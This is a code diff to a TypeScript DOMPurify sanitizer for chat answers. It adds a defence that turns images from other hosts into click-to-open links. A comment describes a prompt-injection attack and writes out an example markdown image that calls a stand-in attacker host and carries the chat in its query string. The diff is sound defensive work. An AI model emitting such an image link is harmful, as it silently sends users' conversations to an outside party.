@@ -12,7 +12,12 @@
  * - no media that plays, no ids or names (they would collide with the ids of
  *   the element around the answer), no tabindex or autofocus;
  * - links open in a new tab without opener or referrer; images load lazily
- *   without telling the image host which page they are on.
+ *   without telling the image host which page they are on;
+ * - images from other hosts do not load by themselves: a prompt-injected
+ *   `![](https://attacker/x.png?d=<the chat>)` would send the conversation
+ *   away with no click. They become a link (the alt text and the host) that
+ *   opens the image in a new tab only when clicked; the pages' CSP `img-src`
+ *   enforces the same (README, Security).
  */
 import DOMPurify, { type Config } from 'dompurify'
 import { escapeHtml } from './escape-html'
@@ -22,6 +27,36 @@ const CONFIG: Config = {
   FORBID_TAGS: ['style', 'form', 'textarea', 'select', 'option', 'optgroup', 'datalist', 'dialog', 'audio', 'video', 'source', 'track', 'picture', 'map', 'area'],
   FORBID_ATTR: ['style', 'id', 'name', 'tabindex', 'autofocus', 'form', 'formaction', 'action', 'srcset'],
   ALLOW_DATA_ATTR: false,
+}
+
+/** The words of the placeholder of an image from another host (set for one sanitize call). */
+let externalImageLabel = 'Image from another site, click to open'
+
+/** Same site, data: or blob: (what the pages' CSP lets an <img> load). */
+function loadsHere(src: string): boolean {
+  try {
+    const url = new URL(src, location.href)
+    return url.protocol === 'data:' || url.protocol === 'blob:' || url.origin === location.origin
+  } catch {
+    return false
+  }
+}
+
+/** An <img> of another host, as a link to it that loads nothing until clicked. */
+function imagePlaceholder(img: Element): HTMLAnchorElement {
+  const src = img.getAttribute('src') ?? ''
+  const link = img.ownerDocument.createElement('a')
+  link.setAttribute('href', src)
+  link.setAttribute('class', 'zx-md-external-image')
+  let host = ''
+  try {
+    host = new URL(src, location.href).host
+  } catch {
+    // not a URL: DOMPurify's URI check below drops the href
+  }
+  const alt = img.getAttribute('alt')?.trim()
+  link.textContent = `🖼 ${alt ? `${alt} · ` : ''}${externalImageLabel}${host ? ` (${host})` : ''}`
+  return link
 }
 
 // An instance of our own: hooks added here do not affect other DOMPurify users in the bundle.
@@ -36,6 +71,11 @@ purify?.addHook('afterSanitizeAttributes', (node) => {
       }
       break
     case 'IMG':
+      if (!loadsHere(node.getAttribute('src') ?? '')) {
+        // The node iterator moves on to the link put in its place, which is sanitized like any link.
+        node.replaceWith(imagePlaceholder(node))
+        break
+      }
       node.setAttribute('loading', 'lazy')
       node.setAttribute('referrerpolicy', 'no-referrer')
       break
@@ -52,8 +92,17 @@ purify?.addHook('afterSanitizeAttributes', (node) => {
 // time, which was a fifth of the cost of rendering a streamed tail.
 purify?.setConfig(CONFIG)
 
-/** Safe HTML from untrusted HTML. Without a DOM to sanitize with, fails closed: the markup shows as text. */
-export function sanitizeHtml(html: string): string {
+/**
+ * Safe HTML from untrusted HTML. Without a DOM to sanitize with, fails closed: the markup shows as text.
+ * `externalImage`: the words on the placeholder of an image from another host (the locale's).
+ */
+export function sanitizeHtml(html: string, words: { externalImage?: string } = {}): string {
   if (!purify?.isSupported) return escapeHtml(html)
-  return purify.sanitize(html) as string
+  const previous = externalImageLabel
+  if (words.externalImage) externalImageLabel = words.externalImage
+  try {
+    return purify.sanitize(html) as string
+  } finally {
+    externalImageLabel = previous
+  }
 }
